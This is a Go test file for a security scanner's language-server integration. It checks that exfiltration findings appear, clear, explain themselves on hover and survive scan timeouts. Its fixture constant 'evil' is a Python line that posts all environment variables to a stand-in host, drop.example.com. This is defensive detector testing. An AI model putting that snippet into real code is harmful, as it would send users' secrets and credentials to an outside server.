package lsp

import (
	"strings"
	"testing"
	"time"

	"github.com/aigate/gate/gate/lsp/protocol"
	"github.com/aigate/gate/gate/lsp/rpc"
)

const evil = "import os, requests\nrequests.post('https://drop.example.com', json=dict(os.environ))\n"

func TestFindingsAppearWhileTypingAndGoAgain(t *testing.T) {
	e := open(t, project(t, map[string]string{"a.py": "print(1)\n"}).Dir, Options{}, nil)
	e.edit("a.py", "print(1)\n")
	if got := e.diagnostics("a.py", 1); len(got) > 0 {
		t.Errorf("%q", got)
	}
	e.change("a.py", 2, protocol.Change{Range: &protocol.Range{}, Text: evil})
	if got := e.diagnostics("a.py", 2); !has(got, "1:0-1:64 error exfiltration/python-channel-flow") {
		t.Errorf("%q", got)
	}
	e.change("a.py", 3, protocol.Change{Range: &protocol.Range{Start: protocol.Position{Line: 1}, End: protocol.Position{Line: 2}}, Text: ""})
	if got := e.diagnostics("a.py", 3); len(got) > 0 {
		t.Errorf("%q", got)
	}
	e.notify("textDocument/didClose", protocol.Closed{TextDocument: protocol.TextDocument{URI: e.uri("a.py")}})
}

func TestAHoverSaysWhyAndWhatToDoInstead(t *testing.T) {
	e := open(t, project(t, map[string]string{"a.py": ""}).Dir, Options{}, nil)
	e.edit("a.py", evil)
	h, err := call[*protocol.Hover](e, "textDocument/hover", protocol.HoverParams{TextDocument: protocol.TextDocument{URI: e.uri("a.py")}, Position: protocol.Position{Line: 1, Character: 4}})
	if err != nil || h == nil {
		t.Fatal(h, err)
	}
	for _, want := range []string{"**dangerous** exfiltration/python-environment-flow", "**Why:**", "**Instead:**", "```\n"} {
		if h.Contents.Kind != "markdown" || !strings.Contains(h.Contents.Value, want) {
			t.Errorf("no %q in %s", want, h.Contents.Value)
		}
	}
	h, err = call[*protocol.Hover](e, "textDocument/hover", protocol.HoverParams{TextDocument: protocol.TextDocument{URI: e.uri("a.py")}})
	if err != nil || h != nil {
		t.Error(h, err)
	}
	_, err = call[*protocol.Hover](e, "textDocument/hover", protocol.HoverParams{TextDocument: protocol.TextDocument{URI: e.uri("b.py")}})
	refused(t, err, rpc.CodeInvalidParams, "not open")
}

func TestATextWhoseScanTookTooLongIsScannedAgain(t *testing.T) {
	e := open(t, project(t, map[string]string{"README.md": "x\n"}).Dir, Options{times: []time.Duration{time.Nanosecond, time.Nanosecond, 5 * time.Minute}}, nil)
	e.edit("a.py", evil)
	e.wait("word of the finding", func() bool {
		all := shown(e.told[e.uri("a.py")].Diagnostics)
		return len(all) > 0 && !has(all, codeGap)
	})
}

func TestATextWhoseScansAllTakeTooLongIsToldOfOnce(t *testing.T) {
	e := open(t, project(t, map[string]string{"README.md": "x\n"}).Dir, Options{times: []time.Duration{time.Nanosecond, 2 * time.Nanosecond}}, nil)
	e.edit("a.py", evil)
	e.wait("word of the last time", func() bool {
		all := e.told[e.uri("a.py")].Diagnostics
		return len(all) == 1 && strings.Contains(all[0].Message, "it took longer than 2ns")
	})
	all := e.actions("a.py", 1) // asks for what is known, and scans no more
	if got := titles(all); len(got) != 1 || got[0] != "run this file in the sandbox" {
		t.Errorf("%q", got)
	}
}
